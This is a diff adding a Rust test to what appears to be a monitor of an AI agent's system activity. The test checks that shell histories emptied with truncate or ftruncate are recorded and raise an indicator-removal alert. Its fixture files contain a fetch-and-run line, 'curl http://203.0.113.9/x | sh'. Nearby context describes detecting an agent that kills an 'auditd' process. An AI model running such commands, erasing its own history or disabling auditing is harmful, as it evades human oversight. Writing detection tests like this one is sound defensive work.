@@ -1694,6 +1694,48 @@ os.close(os.open(os.path.join(d, "by-chmod"), os.O_RDWR))
     );
 }
 
+/// Histories emptied in place with no `>` and no O_TRUNC open: GNU `truncate -s 0` (an open
+/// without O_TRUNC, then ftruncate) and truncate(2) by a relative path. Each is a `path_change`
+/// of op `truncate` naming the file absolutely, and INDICATOR_REMOVAL; a file shortened to
+/// another length is not recorded.
+#[test]
+fn a_history_emptied_by_truncate_or_ftruncate_is_recorded_and_alerted() {
+    let tmp = tempfile::tempdir().unwrap();
+    let script = r#"
+import os, subprocess, sys, time
+d = sys.argv[1]
+for n in (".bash_history", ".python_history", "notes"):
+    with open(os.path.join(d, n), "w") as f:
+        f.write("curl http://203.0.113.9/x | sh\n" * 10)
+time.sleep(1.5)
+subprocess.run(["truncate", "-s", "0", os.path.join(d, ".bash_history")], check=True)
+os.chdir(d)
+os.truncate(".python_history", 0)
+os.truncate("notes", 5)
+"#;
+    let r = python_in(script, tmp.path());
+    assert_eq!(r.code(), Some(0), "{}", r.stderr());
+    let changes = r.of_type("path_change");
+    let emptied: Vec<_> = changes.iter().filter(|c| c["op"] == "truncate").collect();
+    for (file, call) in [
+        (".bash_history", "ftruncate"),
+        (".python_history", "truncate"),
+    ] {
+        assert!(
+            emptied
+                .iter()
+                .any(|c| is_path(&c["path"], &tmp.path().join(file)) && c["syscall"] == call),
+            "{file} by {call}: {changes:?}"
+        );
+        assert_alert(
+            &r,
+            "INDICATOR_REMOVAL",
+            &format!("emptied {}", tmp.path().join(file).display()),
+        );
+    }
+    assert_eq!(emptied.len(), 2, "{changes:?}");
+}
+
 /// The agent signals processes it did not start: it stops and resumes one, and ends a copy of
 /// `sleep` named `auditd` through a pidfd. Each signal is recorded with the target's name and
 /// alerted L5 (the `auditd` one as impairing defences); an existence probe (signal 0), its own
